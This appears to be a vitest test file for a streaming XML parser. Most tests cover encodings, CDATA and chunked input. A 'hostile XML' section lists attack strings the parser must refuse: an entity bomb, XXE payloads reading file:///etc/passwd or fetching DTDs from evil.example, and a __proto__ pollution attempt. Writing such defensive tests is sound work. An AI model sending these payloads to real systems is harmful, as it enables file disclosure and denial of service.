import { describe, expect, test } from 'vitest';
import { bytesFile, type FileRef } from '../file-ref.ts';
import { elementText, wholeText, XmlFault, xmlEvents } from './xml-events.ts';
import { readXmlTree } from './xml-tree.ts';

const fileOf = (text: string | Uint8Array) => bytesFile(typeof text === 'string' ? Buffer.from(text) : text);

/** The same bytes in pieces of `size`. */
const inPieces = (content: Uint8Array, size: number): FileRef => ({
  bytes: content.length,
  async *open() {
    for (let at = 0; at < content.length; at += size) yield content.subarray(at, at + size);
  },
});

async function textOf(file: FileRef): Promise<string> {
  const events = xmlEvents(file);
  await events.next();
  return wholeText(events, 1_000_000);
}

describe('XML is read as it comes', () => {
  test('elements, attributes, text and CDATA', async () => {
    const tree = await readXmlTree(
      fileOf('<?xml version="1.0"?><a x="1 &lt; 2"><b>one</b><c><b>deep</b></c><b><![CDATA[<two>]]></b></a>'),
    );
    expect(tree.attribute('x')).toBe('1 < 2');
    expect(tree.attribute('y')).toBeNull();
    expect(tree.attribute('constructor')).toBeNull();
    expect(tree.all('b').map(({ text }) => text)).toEqual(['one', '<two>']);
    expect(tree.first('c/b')?.text).toBe('deep');
  });

  test('`]]>` inside a test, split over two CDATA sections', async () => {
    expect(await textOf(fileOf('<a><![CDATA[x ]]]]><![CDATA[> y]]></a>'))).toBe('x ]]> y');
  });

  test.each([1, 2, 3, 7, 1000])('pieces of %i bytes cut neither characters nor line ends nor tags', async (size) => {
    const content = Buffer.from('\uFEFF<a>题\r\n一\r二\r\n<![CDATA[é\r\n]]>&amp;&#x41;</a>');
    expect(await textOf(inPieces(content, size))).toBe('题\n一\n二\né\n&A');
  });

  test('GBK without a declaration', async () => {
    expect(
      await textOf(fileOf(Buffer.concat([Buffer.from('<a>'), Buffer.from([0xcc, 0xe2]), Buffer.from('</a>')]))),
    ).toBe('题');
  });

  test('declared GB2312, saved as UTF-8 since', async () => {
    expect(await textOf(fileOf('<?xml version="1.0" encoding="GB2312"?><a>题</a>'))).toBe('题');
  });

  test('declared Latin-1', async () => {
    const content = Buffer.from('<?xml version="1.0" encoding="iso-8859-1"?><a>é</a>', 'latin1');
    expect(await textOf(fileOf(content))).toBe('é');
  });

  test('UTF-16 with a mark', async () => {
    expect(await textOf(fileOf(Buffer.from('\uFEFF<a>题</a>', 'utf16le')))).toBe('题');
  });

  test('control characters that XML forbids are taken out', async () => {
    expect(await textOf(fileOf('<a><![CDATA[x\u001ay\u0000z\t]]></a>'))).toBe('xyz\t');
  });

  test('a text larger than memory should hold flows through in pieces', async () => {
    const piece = Buffer.from('0123456789abcdef'.repeat(4096));
    const pieces = 400;
    const file: FileRef = {
      bytes: null,
      async *open() {
        yield Buffer.from('<a><![CDATA[');
        for (let i = 0; i < pieces; i++) yield piece;
        yield Buffer.from(']]></a>');
      },
    };
    const events = xmlEvents(file);
    await events.next();
    let largest = 0;
    let total = 0;
    for await (const text of elementText(events)) {
      largest = Math.max(largest, text.length);
      total += text.length;
    }
    expect(total).toBe(piece.length * pieces);
    expect(largest).toBeLessThan(1024 * 1024);
  });
});

describe('hostile XML', () => {
  test.each([
    ['an entity bomb', '<!DOCTYPE a [<!ENTITY x "lol"><!ENTITY y "&x;&x;&x;&x;">]><a>&y;</a>'],
    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>'],
    ['an entity of an external document type', '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a>&secret;</a>'],
    ['an element that never closes', '<a><b></a>'],
    ['no element', 'hello'],
    ['nothing', ''],
    ['two roots', '<a/><b/>'],
    ['a file that ends early', '<a><![CDATA[x'],
    ['a character that does not exist', '<a>&#x7fffffff;</a>'],
    ['depth', '<a>'.repeat(10_000)],
    ['a tag name without end', `<${'a'.repeat(200_000)}`],
    ['an attribute without end', `<a x="${'y'.repeat(300_000)}"/>`],
  ])('%s is refused', async (_name, content) => {
    await expect(readXmlTree(inPieces(Buffer.from(content), 65_536))).rejects.toThrow(XmlFault);
  });

  test('a document type elsewhere is not loaded', async () => {
    const tree = await readXmlTree(
      fileOf('<!DOCTYPE fps PUBLIC "-//x//EN" "http://hustoj.example/fps.dtd"><fps version="1.1"/>'),
    );
    expect(tree.attribute('version')).toBe('1.1');
  });

  test('an attribute named __proto__ changes nothing', async () => {
    const tree = await readXmlTree(fileOf('<a __proto__="x" b="1"/>'));
    expect(tree.attribute('b')).toBe('1');
    expect(({} as Record<string, unknown>).x).toBeUndefined();
  });
});
